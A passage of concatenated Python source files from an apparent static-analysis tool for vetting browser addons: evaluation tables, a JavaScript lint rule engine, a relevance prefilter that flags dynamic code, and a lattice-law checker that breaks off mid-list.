) -> list[DiffRow]:
    """The Diff column on the versioned examples: every curated update
    pair run through :func:`repro.api.diff_vet`. Empty when the
    versioned corpus is absent."""
    from repro.api import diff_vet
    from repro.diffvet import discover_pairs

    rows = []
    for pair in discover_pairs(versions_dir):
        report = diff_vet(pair.old_source(), pair.new_source())
        if report.fast_lane:
            certificate = "fast-lane"
        else:
            certificate = f"refused({report.certificate.reason})"
        changes = ", ".join(
            f"{kind}={count}"
            for kind, count in sorted(report.diff.counts.items())
            if count and kind != "unchanged"
        ) or "none"
        rows.append(DiffRow(
            name=pair.name, certificate=certificate,
            verdict=report.verdict, changes=changes,
        ))
    return rows


def render_diff_table(rows: list[DiffRow]) -> str:
    body = render_table(
        headers=["Addon Update", "Certificate", "Diff Verdict", "Changes"],
        rows=[
            [row.name, row.certificate, row.verdict, row.changes]
            for row in rows
        ],
        title="Differential vetting on the versioned examples",
    )
    fast = sum(row.verdict == "approve-fast" for row in rows)
    rereview = sum(row.verdict == "re-review" for row in rows)
    return body + (
        f"\n\n{len(rows)} update pairs: {fast} fast-laned,"
        f" {rereview} routed to re-review."
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--runs", type=int, default=11,
        help="timing runs per addon (first is discarded; paper: 11)",
    )
    parser.add_argument("--k", type=int, default=1, help="context sensitivity")
    parser.add_argument(
        "--workers", type=int, default=None,
        help="vetting worker processes (default: one per CPU)",
    )
    parser.add_argument(
        "--cache", action="store_true",
        help="reuse the on-disk vetting result cache",
    )
    parser.add_argument(
        "--timeout", type=float, default=None,
        help="per-run wall-clock budget in seconds (degrades, not fails)",
    )
    arguments = parser.parse_args()
    print(render_table2(compute_table2(
        runs=arguments.runs, k=arguments.k,
        workers=arguments.workers, use_cache=arguments.cache,
        timeout=arguments.timeout,
    )))
    diff_rows = compute_diff_rows()
    if diff_rows:
        print()
        print(render_diff_table(diff_rows))


if __name__ == "__main__":
    main()
