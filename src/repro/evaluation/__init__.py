"""The evaluation harness: Table 1, Table 2, and figure reproductions."""

from repro.evaluation.bench import render_bench, run_bench
from repro.evaluation.scaling import (
    check_regression,
    render_scaling,
    run_scaling,
    synthesize_chain,
    synthesize_flat,
)
from repro.evaluation.table1 import Table1Row, compute_table1, render_table1
from repro.evaluation.table2 import (
    DiffRow,
    Table2Row,
    compute_diff_rows,
    compute_table2,
    render_diff_table,
    render_table2,
)
from repro.evaluation.timing import PhaseTimes, time_phases, time_phases_once
from repro.evaluation.report import render_report
from repro.evaluation.figures import (
    FIGURE1_PROGRAM,
    FIGURE2_EXPECTED,
    check_figure2,
    figure2_edges,
    figure4_lattice,
    render_figure2,
    render_figure4,
)

__all__ = [
    "compute_table1", "render_table1", "Table1Row",
    "compute_table2", "render_table2", "Table2Row",
    "compute_diff_rows", "render_diff_table", "DiffRow",
    "time_phases", "time_phases_once", "PhaseTimes",
    "FIGURE1_PROGRAM", "FIGURE2_EXPECTED", "check_figure2",
    "figure2_edges", "figure4_lattice", "render_figure2", "render_figure4",
    "render_report",
    "run_bench", "render_bench",
    "run_scaling", "render_scaling", "check_regression",
    "synthesize_flat", "synthesize_chain",
]
