"""Pre-analysis lint & triage: rule engine, relevance prefilter, and
the lattice-law sanitizer.

Public surface:

- :func:`lint_source` / :func:`lint_paths` / :func:`lint_corpus` — run
  the rule engine; :class:`Finding` / :class:`LintReport` are the
  results.
- :func:`decide_relevance` — the sound prefilter the batch engine uses
  to skip spec-irrelevant addons.
- :func:`run_selfcheck` — the lattice-law sanitizer behind
  ``addon-sig selfcheck``.
"""

from repro.lint.engine import (
    LintContext,
    Rule,
    all_rules,
    lint_corpus,
    lint_paths,
    lint_source,
    register,
    rule_table,
)
from repro.lint.findings import Finding, LintReport, Severity
from repro.lint.selfcheck import DomainCheck, render_selfcheck, run_selfcheck
from repro.lint.surface import (
    PrefilterDecision,
    Surface,
    addon_surface,
    decide_relevance,
    spec_surface,
)

__all__ = [
    "DomainCheck",
    "Finding",
    "LintContext",
    "LintReport",
    "PrefilterDecision",
    "Rule",
    "Severity",
    "Surface",
    "addon_surface",
    "all_rules",
    "decide_relevance",
    "lint_corpus",
    "lint_paths",
    "lint_source",
    "register",
    "render_selfcheck",
    "rule_table",
    "run_selfcheck",
    "spec_surface",
]
