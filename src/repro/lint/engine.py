"""The lint rule engine: visitor infrastructure and the rule registry.

A :class:`Rule` inspects either the AST (set ``node_types`` and override
:meth:`Rule.check`) or the raw token stream (override
:meth:`Rule.check_tokens` — needed for constructs like ``with`` that the
parser rejects before an AST exists). Rules are registered with the
:func:`register` decorator and carry a stable id, slug, severity, and
description, which is what the CLI rule table and the JSON findings
expose.

:func:`lint_source` is the entry point: it tokenizes, parses with
recovery (so one malformed statement cannot hide findings in the rest
of the file), runs every registered rule, and folds recovery skips in
as ``R001`` findings — lint findings and degradation records share one
span format by construction.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

from repro.js import ast as js_ast
from repro.js.errors import FrontendError, SourcePosition, Span
from repro.js.lexer import tokenize
from repro.js.parser import Parser, SkippedStatement
from repro.js.tokens import Token
from repro.lint.findings import Finding, LintReport, Severity

# ----------------------------------------------------------------------
# Frontend pseudo-rules (emitted by the engine, not the registry)

#: The whole file failed to tokenize: nothing else can run.
LEX_ERROR_RULE = ("R000", "lex-error", Severity.ERROR)
#: A top-level statement was dropped by recovery-mode parsing.
PARSE_SKIP_RULE = ("R001", "parse-skip", Severity.ERROR)


@dataclass
class LintContext:
    """Per-run state handed to every rule."""

    filename: str
    source: str

    def span_of(self, node: js_ast.Node) -> Span:
        """The (single-point) span of an AST node."""
        return Span.at(node.position)


class Rule:
    """Base class for lint rules.

    Subclasses set the class attributes, then override :meth:`check`
    (called once per AST node matching ``node_types``) and/or
    :meth:`check_tokens` (called once per file with the raw token
    stream). Both yield ``(message, span)`` pairs; the engine stamps
    them with the rule's id/slug/severity.
    """

    id: ClassVar[str]
    name: ClassVar[str]
    severity: ClassVar[Severity]
    description: ClassVar[str]
    #: AST node classes this rule wants to see (empty = AST-blind).
    node_types: ClassVar[tuple[type, ...]] = ()

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        return iter(())

    def check_tokens(
        self, tokens: Sequence[Token], context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        return iter(())


#: id -> rule class, in registration order.
_REGISTRY: dict[str, type[Rule]] = {}


def register(cls: type[Rule]) -> type[Rule]:
    """Class decorator adding a rule to the registry (ids must be
    unique; re-registering an id is a programming error)."""
    if cls.id in _REGISTRY:
        raise ValueError(f"duplicate lint rule id: {cls.id}")
    _REGISTRY[cls.id] = cls
    return cls


def all_rules() -> list[Rule]:
    """Fresh instances of every registered rule, ordered by id."""
    import repro.lint.rules  # noqa: F401  (registration side effect)

    return [_REGISTRY[rule_id]() for rule_id in sorted(_REGISTRY)]


def rule_table() -> list[tuple[str, str, str, str]]:
    """(id, name, severity, description) for every rule — registered
    ones plus the engine's frontend pseudo-rules. Powers ``addon-sig
    lint --rules`` and the README rule table."""
    rows = [
        (rule.id, rule.name, rule.severity.value, rule.description)
        for rule in all_rules()
    ]
    rows.append(
        (*LEX_ERROR_RULE[:2], LEX_ERROR_RULE[2].value,
         "the file could not be tokenized; nothing else can run")
    )
    rows.append(
        (*PARSE_SKIP_RULE[:2], PARSE_SKIP_RULE[2].value,
         "a top-level statement was dropped by recovery-mode parsing")
    )
    from repro.lint.webext import WEB_RULES

    rows.extend(
        (rule_id, slug, severity.value, description)
        for rule_id, slug, severity, description in WEB_RULES
    )
    return sorted(rows)


# ----------------------------------------------------------------------
# Running rules

def _skip_finding(skip: SkippedStatement, filename: str) -> Finding:
    rule_id, slug, severity = PARSE_SKIP_RULE
    span = skip.span
    if span is None:  # pragma: no cover - recovery always records spans
        span = Span.at(skip.position or SourcePosition(0, 0))
    return Finding(
        rule=rule_id,
        name=slug,
        severity=severity,
        message=f"statement skipped by recovery: {skip.message}",
        span=span,
        file=filename,
    )


def lint_source(
    source: str,
    filename: str = "<addon>",
    rules: Iterable[Rule] | None = None,
) -> list[Finding]:
    """Lint one addon source; returns findings in stable order.

    Never raises for bad addon code: a lex error becomes the single
    ``R000`` finding, unparseable top-level statements become ``R001``
    findings, and every rule still runs over the statements that did
    parse.
    """
    context = LintContext(filename=filename, source=source)
    try:
        tokens = tokenize(source)
    except FrontendError as error:
        rule_id, slug, severity = LEX_ERROR_RULE
        span = Span.at(error.position or SourcePosition(0, 0))
        return [
            Finding(
                rule=rule_id, name=slug, severity=severity,
                message=error.message, span=span, file=filename,
            )
        ]

    program, skipped = Parser(tokens, filename).parse_program_with_recovery()
    findings = [_skip_finding(skip, filename) for skip in skipped]

    active = list(rules) if rules is not None else all_rules()
    for rule in active:
        for message, span in rule.check_tokens(tokens, context):
            findings.append(
                Finding(
                    rule=rule.id, name=rule.name, severity=rule.severity,
                    message=message, span=span, file=filename,
                )
            )
    ast_rules = [rule for rule in active if rule.node_types]
    for node in program.walk():
        for rule in ast_rules:
            if isinstance(node, rule.node_types):
                for message, span in rule.check(node, context):
                    findings.append(
                        Finding(
                            rule=rule.id, name=rule.name,
                            severity=rule.severity, message=message,
                            span=span, file=filename,
                        )
                    )
    return sorted(findings, key=Finding.sort_key)


def file_surface(source: str) -> dict | None:
    """The per-file syntactic-surface summary for the JSON report.

    Runs the same resolution the vetting pre-analysis would (a lint
    file is its own whole program), so the section shows the *residual*
    dynamic sites — the ones that actually disqualify the prefilter —
    next to the count of computed sites resolution bounded. ``None``
    when the file cannot be tokenized (the ``R000`` finding covers it).
    """
    from repro.lint.surface import addon_surface
    from repro.preanalysis import resolve_computed_sites

    try:
        tokens = tokenize(source)
    except FrontendError:
        return None
    program, skipped = Parser(tokens, "<addon>").parse_program_with_recovery()
    plain = addon_surface(program)
    resolution = resolve_computed_sites(
        (program,), trusted=not plain.dynamic_code and not skipped
    )
    surface = addon_surface(program, resolution=resolution)
    return {
        "dynamic_code": surface.dynamic_code,
        "dynamic_code_sites": [
            span.to_json() for span in surface.dynamic_code_sites
        ],
        "dynamic_properties": surface.dynamic_properties,
        "dynamic_property_sites": [
            span.to_json() for span in surface.dynamic_property_sites
        ],
        "resolved_sites": surface.resolved_sites,
        "residual_dynamic_sites": len(surface.dynamic_property_sites),
    }


def expand_paths(paths: Iterable[str | Path]) -> list[Path]:
    """Resolve files/directories to the ``.js`` files under them,
    sorted for deterministic reports."""
    files: list[Path] = []
    for raw in paths:
        path = Path(raw)
        if path.is_dir():
            files.extend(sorted(path.rglob("*.js")))
        else:
            files.append(path)
    return files


def lint_paths(paths: Iterable[str | Path]) -> LintReport:
    """Lint files and/or directories (directories: every ``*.js`` under
    them) into one report.

    A directory containing a ``manifest.json`` is treated as a
    WebExtension: besides the per-file rules, the whole-bundle WEB rules
    of :mod:`repro.lint.webext` run over it (manifest over-permission,
    unguarded message handlers, wildcard match patterns).
    """
    report = LintReport()
    for raw in paths:
        root = Path(raw)
        if root.is_dir() and (root / "manifest.json").is_file():
            from repro.lint.webext import lint_extension_dir

            report.files.append(str(root / "manifest.json"))
            report.findings.extend(lint_extension_dir(root))
    for path in expand_paths(paths):
        name = str(path)
        source = path.read_text(encoding="utf-8")
        report.files.append(name)
        report.findings.extend(lint_source(source, filename=name))
        surface = file_surface(source)
        if surface is not None:
            report.surfaces[name] = surface
    return report


def lint_corpus() -> LintReport:
    """Lint the built-in benchmark corpus (named by addon)."""
    from repro.addons import CORPUS

    report = LintReport()
    for spec in CORPUS:
        source = spec.source()
        report.files.append(spec.name)
        report.findings.extend(lint_source(source, filename=spec.name))
        surface = file_surface(source)
        if surface is not None:
            report.surfaces[spec.name] = surface
    return report
