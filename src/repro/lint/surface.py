"""The sound relevance prefilter (static triage, flow-insensitive).

The heavyweight pipeline — abstract interpretation, PDG construction,
flow-type fixpoints — only ever produces signature entries for addons
that *name* part of the security spec's surface: a source property
(``href``, ``keyCode``, ...), a sink method (``open``, ``send``,
``setData``, ...), or a spec-tagged global (``XHRWrapper``, ``eval``).
That gives a cheap, sound triage test:

1. Over-approximate the addon's *surface*: every identifier, every
   statically known property name, every declared name (a
   flow-insensitive walk of the AST — :func:`addon_surface`).
2. Over-approximate the spec's surface: every property/method/global
   name any of its matchers could possibly need (:func:`spec_surface`).
3. If the two are disjoint **and** the addon has no dynamic code
   (``eval``/``Function``/string timers) **and** no dynamic property
   access (a computed key could name anything), then no run of the full
   analysis can produce a non-empty signature — the addon gets the
   trivially-empty signature without the interpreter ever starting.

Soundness argument (see DESIGN.md "Prefilter soundness"): every
source/sink/API matcher in :mod:`repro.signatures.spec` fires only on
statements that reach a native through a *named* property read or a
*named* global — both of which put the name into the addon surface. A
computed access with a non-literal key could denote any name, so it
forces ``dynamic_properties`` and disqualifies the fast lane; dynamic
code and recovery-degraded parses disqualify it by fiat. The prefilter
therefore never fires on an addon whose full analysis could emit an
entry — tested addon-by-addon in
``tests/lint/test_prefilter_soundness.py``.

Since the pre-analysis PR, the surface also records *where* each
disqualifier lives (per-site spans, not just booleans), and the scan
accepts the resolver's verdicts (:class:`repro.preanalysis.Resolution`):
a computed site whose key provably ranges over a finite string set is
demoted from ``dynamic_properties`` to ordinary named surface — its
resolved names join ``Surface.names``, and only the *residual* sites
still disqualify. Resolution is sound only whole-program (the solved
environment must have seen every assignment), so fragment consumers
(the diffvet change-surface certificate) call the scan without one.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro.js import ast as js_ast
from repro.js.errors import Span
from repro.lint.rules import TIMER_NAMES, callee_name, static_property_name
from repro.signatures.spec import (
    CallSource,
    ChannelSource,
    NetworkSink,
    PropertySource,
    PropertyWriteSink,
    SecuritySpec,
)

if TYPE_CHECKING:
    from repro.preanalysis.pipeline import Resolution

#: Names that mean string-to-code execution wherever they appear.
_DYNAMIC_CODE_NAMES = frozenset({"eval", "Function"})


@dataclass(frozen=True)
class Surface:
    """A flow-insensitive over-approximation of what an addon can touch."""

    #: Every identifier, statically known property name, declared
    #: variable/function/parameter name, object-literal key, and
    #: resolved computed-key name.
    names: frozenset[str]
    #: The addon may build code from strings (eval / Function / string
    #: timer handlers) — nothing syntactic bounds what it touches.
    dynamic_code: bool
    #: The addon uses a computed property key that is not a literal and
    #: that resolution could not bound — the property surface is
    #: unbounded.
    dynamic_properties: bool
    #: Where each dynamic-code construct appears.
    dynamic_code_sites: tuple[Span, ...] = ()
    #: Where each *unresolved* computed property access appears.
    dynamic_property_sites: tuple[Span, ...] = ()
    #: Computed sites the resolver bounded to a finite name set (their
    #: names are already folded into ``names``).
    resolved_sites: int = 0


def addon_surface(
    program: js_ast.Node, resolution: "Resolution | None" = None
) -> Surface:
    """Collect the addon's syntactic surface in one AST walk."""
    return nodes_surface([program], resolution=resolution)


def nodes_surface(
    roots: Iterable[js_ast.Node], resolution: "Resolution | None" = None
) -> Surface:
    """The combined syntactic surface of an arbitrary set of AST nodes
    (each walked recursively).

    This is :func:`addon_surface` generalized to *parts* of a program:
    the differential-vetting fast lane (``repro.diffvet.incremental``)
    uses it to over-approximate what a version update's *changed
    statements* can touch, with exactly the same collection rules — so
    the change-surface certificate inherits the prefilter's soundness
    argument for named access.

    ``resolution`` (whole-program callers only) demotes computed sites
    the resolver proved finite: their resolved names join the surface
    instead of tripping ``dynamic_properties``. It is keyed by node
    identity, so it must come from a pre-analysis of these same AST
    objects.
    """
    names: set[str] = set()
    dynamic_code = False
    dynamic_properties = False
    dynamic_code_sites: list[Span] = []
    dynamic_property_sites: list[Span] = []
    resolved_sites = 0
    resolved = resolution.resolved if resolution is not None else {}

    for node in _walk_all(roots):
        if isinstance(node, js_ast.Identifier):
            names.add(node.name)
            if node.name in _DYNAMIC_CODE_NAMES:
                dynamic_code = True
                dynamic_code_sites.append(Span.at(node.position))
        elif isinstance(node, js_ast.MemberExpression):
            prop = static_property_name(node)
            if prop is not None:
                names.add(prop)
                if prop in _DYNAMIC_CODE_NAMES:
                    dynamic_code = True
                    dynamic_code_sites.append(Span.at(node.position))
            elif id(node) in resolved:
                names.update(resolved[id(node)])
                resolved_sites += 1
            else:
                dynamic_properties = True
                dynamic_property_sites.append(Span.at(node.position))
        elif isinstance(node, js_ast.Property):
            names.add(node.key)
        elif isinstance(node, js_ast.VariableDeclarator):
            names.add(node.name)
        elif isinstance(node, (js_ast.FunctionDeclaration, js_ast.FunctionExpression)):
            if node.name:
                names.add(node.name)
            names.update(node.params)
        elif isinstance(node, js_ast.ForInStatement):
            names.add(node.variable)
        elif isinstance(node, js_ast.CallExpression):
            if callee_name(node.callee) in TIMER_NAMES and node.arguments:
                handler = node.arguments[0]
                if not isinstance(
                    handler,
                    (js_ast.FunctionExpression, js_ast.Identifier,
                     js_ast.MemberExpression),
                ):
                    # A timer handler that is not (a reference to) a
                    # function may be a string of code.
                    dynamic_code = True
                    dynamic_code_sites.append(Span.at(node.position))
    return Surface(
        names=frozenset(names),
        dynamic_code=dynamic_code,
        dynamic_properties=dynamic_properties,
        dynamic_code_sites=tuple(dynamic_code_sites),
        dynamic_property_sites=tuple(dynamic_property_sites),
        resolved_sites=resolved_sites,
    )


def _walk_all(roots: Iterable[js_ast.Node]):
    for root in roots:
        yield from root.walk()


def _tag_names(tag: str) -> set[str]:
    """The names an addon must utter to reach a native with ``tag``.

    Dotted tags (``xhr.send``) are reached through a property read of
    the method name; bare tags (``XHRWrapper``, ``eval``) are global
    bindings reached by identifier. All components go in — extra names
    only cost precision (a skipped fast lane), never soundness.
    """
    return set(tag.split("."))


def spec_surface(spec: SecuritySpec) -> frozenset[str]:
    """Every name whose appearance in an addon could let some matcher
    of ``spec`` fire."""
    names: set[str] = set()
    for source in spec.sources:
        if isinstance(source, PropertySource):
            names.update(source.props)
        elif isinstance(source, CallSource):
            for tag in source.tags:
                names.update(_tag_names(tag))
        elif isinstance(source, ChannelSource):
            # A channel handler only ever registers through one of the
            # listener names the source declares (onMessage, ...): an
            # addon that never utters them cannot make the loop dispatch
            # the channel, so the matcher cannot fire.
            names.update(source.surface_names())
    for sink in spec.sinks:
        if isinstance(sink, NetworkSink):
            for tag, _rule in sink.rules:
                names.update(_tag_names(tag))
        elif isinstance(sink, PropertyWriteSink):
            names.update(sink.props)
    for api in spec.apis:
        for tag in api.tags:
            names.update(_tag_names(tag))
    return frozenset(names)


def _render_spans(spans: tuple[Span, ...], limit: int = 4) -> str:
    shown = ", ".join(
        f"{span.start.line}:{span.start.column}" for span in spans[:limit]
    )
    if len(spans) > limit:
        shown += f", +{len(spans) - limit} more"
    return shown


@dataclass(frozen=True)
class PrefilterDecision:
    """Whether the full analysis must run, and why."""

    relevant: bool
    #: ``"degraded-input"`` / ``"dynamic-code"`` / ``"dynamic-properties"``
    #: / ``"surface-overlap"`` when relevant; ``"no-overlap"`` otherwise.
    reason: str
    #: The names shared by addon and spec (empty unless surface-overlap).
    overlap: frozenset[str] = frozenset()
    #: Every dynamic-code construct the scan saw (where the fast lane
    #: died, when ``reason == "dynamic-code"``).
    dynamic_code_sites: tuple[Span, ...] = ()
    #: Every computed property access resolution could not bound.
    dynamic_property_sites: tuple[Span, ...] = ()
    #: Computed sites resolution *did* bound (demoted to named surface).
    resolved_sites: int = 0

    def render(self) -> str:
        if not self.relevant:
            suffix = (
                f" ({self.resolved_sites} computed site(s) resolved)"
                if self.resolved_sites
                else ""
            )
            return (
                "prefiltered: addon surface shares nothing with the spec"
                + suffix
            )
        detail = f" ({', '.join(sorted(self.overlap))})" if self.overlap else ""
        lines = [f"relevant: {self.reason}{detail}"]
        if self.dynamic_code_sites:
            lines.append(
                f"  dynamic code at {_render_spans(self.dynamic_code_sites)}"
            )
        if self.dynamic_property_sites:
            lines.append(
                "  unresolved computed properties at "
                f"{_render_spans(self.dynamic_property_sites)}"
            )
        if self.resolved_sites:
            lines.append(
                f"  {self.resolved_sites} computed site(s) resolved to named surface"
            )
        return "\n".join(lines)


def decide_relevance(
    program: js_ast.Node,
    spec: SecuritySpec,
    *,
    degraded: bool = False,
    resolution: "Resolution | None" = None,
) -> PrefilterDecision:
    """The prefilter decision for one parsed addon.

    ``degraded`` must be True when recovery-mode parsing skipped any
    statement: the AST under-approximates the addon, so no syntactic
    argument about it is sound and the full (widening) pipeline must
    run.
    """
    return decide_relevance_many(
        [program], spec, degraded=degraded, resolution=resolution
    )


def decide_relevance_many(
    programs: Iterable[js_ast.Node],
    spec: SecuritySpec,
    *,
    degraded: bool = False,
    resolution: "Resolution | None" = None,
) -> PrefilterDecision:
    """The prefilter decision over *several* parsed files at once.

    Used for multi-file extensions (``repro.webext``): the surface is
    the union across every component file, so a spec name uttered in
    *any* component disqualifies the fast lane for the whole bundle.
    The soundness argument is unchanged — the lowered program is built
    from exactly these ASTs, so every name the full analysis could
    resolve appears in one of them.

    ``resolution`` must come from a pre-analysis of these same parsed
    objects; resolved computed sites then count as named surface instead
    of disqualifying dynamism (sound because the resolver's name sets
    over-approximate the machine's key coercion — DESIGN.md §5j).
    """
    if degraded:
        return PrefilterDecision(relevant=True, reason="degraded-input")
    surface = nodes_surface(programs, resolution=resolution)
    if surface.dynamic_code:
        return PrefilterDecision(
            relevant=True,
            reason="dynamic-code",
            dynamic_code_sites=surface.dynamic_code_sites,
            dynamic_property_sites=surface.dynamic_property_sites,
            resolved_sites=surface.resolved_sites,
        )
    if surface.dynamic_properties:
        return PrefilterDecision(
            relevant=True,
            reason="dynamic-properties",
            dynamic_property_sites=surface.dynamic_property_sites,
            resolved_sites=surface.resolved_sites,
        )
    overlap = surface.names & spec_surface(spec)
    if overlap:
        return PrefilterDecision(
            relevant=True,
            reason="surface-overlap",
            overlap=overlap,
            resolved_sites=surface.resolved_sites,
        )
    return PrefilterDecision(
        relevant=False, reason="no-overlap", resolved_sites=surface.resolved_sites
    )
