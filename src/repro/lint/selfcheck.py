"""The lattice-law sanitizer: ``addon-sig selfcheck``.

The whole pipeline rests on its abstract domains behaving like the
lattices the paper's proofs assume: ``leq`` a partial order, ``join`` a
least upper bound, ``meet`` a greatest lower bound, transfer functions
monotone. A silent violation in any of them corrupts every signature
downstream without ever raising — the kind of bug only a law checker
catches.

This module enumerates a small, deterministic element set for each
domain (prefix strings, booleans, numbers, the reduced-product values,
the k-bounded string-set extension, and the machine state itself —
environment + heap over their persistent maps) and checks every law on every
element/pair/triple (for the large closed-under-join values domain,
triples range over the base generators). It runs in about a second, as a CLI
subcommand (``addon-sig selfcheck``) and as a pytest suite
(``pytest -m lint tests/lint/test_selfcheck.py``).

Domain-specific notes:

- **numbers** — two NaN constants are semantically equal but ``==``
  -unequal (IEEE NaN); the check uses the domain's own constant
  equality so antisymmetry is judged semantically.
- **stringset** — elements are enumerated as singletons: the bounded
  join deliberately collapses sets over budget (a widening), and the
  lattice laws are only promised below the bound.
- **state** — elements deliberately include copy-on-write aliases
  (states built by ``copy()`` + mutation, sharing trie nodes with their
  ancestors), so the laws exercise the persistent maps' shared-subtree
  short-circuits, not just structurally independent states; equality is
  semantic (an absent variable is an implicit bottom binding).
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from repro.domains import bools, numbers, values
from repro.domains import prefix as prefix_domain
from repro.domains.objects import AbstractObject
from repro.domains.state import State
from repro.domains.stringset import StringSet
from repro.ir.nodes import GLOBAL_SCOPE, Var


@dataclass
class DomainCheck:
    """The sanitizer's verdict for one domain."""

    domain: str
    elements: int
    checks: int = 0
    violations: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not self.violations

    def render(self) -> str:
        status = "ok" if self.ok else f"{len(self.violations)} violation(s)"
        lines = [
            f"{self.domain:<12} {self.elements:>3} elements,"
            f" {self.checks:>6} checks: {status}"
        ]
        lines.extend(f"    {violation}" for violation in self.violations)
        return "\n".join(lines)


@dataclass(frozen=True)
class Transfer:
    """One transfer function to check for monotonicity.

    ``arity`` 1 or 2; ``out_leq`` compares outputs (defaults to the
    domain's own ``leq`` — override for functions into another domain,
    e.g. ``to_property_name`` maps values into the prefix domain).
    """

    name: str
    fn: Callable
    arity: int = 1
    out_leq: Callable | None = None


class _LawChecker:
    """Checks the lattice laws over one enumerated element set."""

    def __init__(
        self,
        name: str,
        elements: Sequence,
        *,
        leq: Callable,
        join: Callable,
        meet: Callable | None = None,
        eq: Callable | None = None,
        bottom=None,
        top=None,
        transfers: Sequence[Transfer] = (),
        probes: Sequence | None = None,
    ):
        self.result = DomainCheck(domain=name, elements=len(elements))
        self.elements = list(elements)
        #: The third loop variable of the O(n³) laws (transitivity,
        #: associativity, least/greatest bounds, binary monotonicity)
        #: ranges over this set — defaults to all elements; large
        #: domains pass their base generators to keep the run fast
        #: while every *pair* is still checked exhaustively.
        self.probes = list(probes) if probes is not None else self.elements
        self.leq = leq
        self.join = join
        self.meet = meet
        self.eq = eq if eq is not None else (lambda a, b: a == b)
        self.bottom = bottom
        self.top = top
        self.transfers = transfers

    def _fail(self, law: str, detail: str) -> None:
        self.result.violations.append(f"{law}: {detail}")

    def _assert(self, condition: bool, law: str, detail: str) -> None:
        self.result.checks += 1
        if not condition:
            self._fail(law, detail)

    def run(self) -> DomainCheck:
        self._check_order()
        self._check_join()
        if self.meet is not None:
            self._check_meet()
        self._check_extremes()
        for transfer in self.transfers:
            self._check_monotone(transfer)
        return self.result

    # ------------------------------------------------------------------

    def _check_order(self) -> None:
        for a in self.elements:
            self._assert(self.leq(a, a), "reflexivity", f"{a} ⋢ {a}")
        for a in self.elements:
            for b in self.elements:
                if self.leq(a, b) and self.leq(b, a):
                    self._assert(
                        self.eq(a, b), "antisymmetry",
                        f"{a} ⊑ {b} ⊑ {a} but {a} ≠ {b}",
                    )
        for a in self.elements:
            for b in self.elements:
                if not self.leq(a, b):
                    continue
                for c in self.probes:
                    if self.leq(b, c):
                        self._assert(
                            self.leq(a, c), "transitivity",
                            f"{a} ⊑ {b} ⊑ {c} but {a} ⋢ {c}",
                        )

    def _check_join(self) -> None:
        for a in self.elements:
            self._assert(
                self.eq(self.join(a, a), a), "join-idempotence",
                f"{a} ⊔ {a} ≠ {a}",
            )
        for a in self.elements:
            for b in self.elements:
                ab = self.join(a, b)
                self._assert(
                    self.eq(ab, self.join(b, a)), "join-commutativity",
                    f"{a} ⊔ {b} ≠ {b} ⊔ {a}",
                )
                self._assert(
                    self.leq(a, ab) and self.leq(b, ab), "join-upper-bound",
                    f"{a} ⊔ {b} = {ab} is not above both operands",
                )
                for c in self.probes:
                    if self.leq(a, c) and self.leq(b, c):
                        self._assert(
                            self.leq(ab, c), "join-least",
                            f"{ab} = {a} ⊔ {b} ⋢ upper bound {c}",
                        )
        for a in self.elements:
            for b in self.elements:
                for c in self.probes:
                    self._assert(
                        self.eq(
                            self.join(self.join(a, b), c),
                            self.join(a, self.join(b, c)),
                        ),
                        "join-associativity",
                        f"({a} ⊔ {b}) ⊔ {c} ≠ {a} ⊔ ({b} ⊔ {c})",
                    )

    def _check_meet(self) -> None:
        assert self.meet is not None
        for a in self.elements:
            self._assert(
                self.eq(self.meet(a, a), a), "meet-idempotence",
                f"{a} ⊓ {a} ≠ {a}",
            )
        for a in self.elements:
            for b in self.elements:
                ab = self.meet(a, b)
                self._assert(
                    self.eq(ab, self.meet(b, a)), "meet-commutativity",
                    f"{a} ⊓ {b} ≠ {b} ⊓ {a}",
                )
                self._assert(
                    self.leq(ab, a) and self.leq(ab, b), "meet-lower-bound",
                    f"{a} ⊓ {b} = {ab} is not below both operands",
                )
                for c in self.probes:
                    if self.leq(c, a) and self.leq(c, b):
                        self._assert(
                            self.leq(c, ab), "meet-greatest",
                            f"lower bound {c} ⋢ {ab} = {a} ⊓ {b}",
                        )

    def _check_extremes(self) -> None:
        if self.bottom is not None:
            for a in self.elements:
                self._assert(
                    self.leq(self.bottom, a), "bottom-least",
                    f"⊥ ⋢ {a}",
                )
        if self.top is not None:
            for a in self.elements:
                self._assert(
                    self.leq(a, self.top), "top-greatest",
                    f"{a} ⋢ ⊤",
                )

    def _check_monotone(self, transfer: Transfer) -> None:
        out_leq = transfer.out_leq if transfer.out_leq is not None else self.leq
        law = f"monotonicity[{transfer.name}]"
        if transfer.arity == 1:
            for a in self.elements:
                for b in self.elements:
                    if self.leq(a, b):
                        self._assert(
                            out_leq(transfer.fn(a), transfer.fn(b)), law,
                            f"{a} ⊑ {b} but f({a}) ⋢ f({b})",
                        )
            return
        for a in self.elements:
            for b in self.elements:
                if not self.leq(a, b):
                    continue
                for c in self.probes:
                    self._assert(
                        out_leq(transfer.fn(a, c), transfer.fn(b, c)), law,
                        f"{a} ⊑ {b} but f({a},{c}) ⋢ f({b},{c})",
                    )
                    self._assert(
                        out_leq(transfer.fn(c, a), transfer.fn(c, b)), law,
                        f"{a} ⊑ {b} but f({c},{a}) ⋢ f({c},{b})",
                    )


# ----------------------------------------------------------------------
# Element enumerations (deterministic; small but corner-heavy)


def _prefix_elements() -> list[prefix_domain.Prefix]:
    return [
        prefix_domain.BOTTOM,
        prefix_domain.TOP,
        prefix_domain.exact(""),  # the empty *exact* string ≠ ⊤
        prefix_domain.exact("a"),
        prefix_domain.exact("b"),
        prefix_domain.exact("ab"),
        prefix_domain.prefix("a"),
        prefix_domain.prefix("b"),
        prefix_domain.prefix("ab"),
        prefix_domain.exact("http://a.example/"),
        prefix_domain.prefix("http://"),
    ]


def _bool_elements() -> list[bools.AbstractBool]:
    return [bools.BOTTOM, bools.TRUE, bools.FALSE, bools.TOP]


def _number_elements() -> list[numbers.AbstractNumber]:
    return [
        numbers.BOTTOM,
        numbers.TOP,
        numbers.constant(0.0),
        numbers.constant(1.0),
        numbers.constant(-1.0),
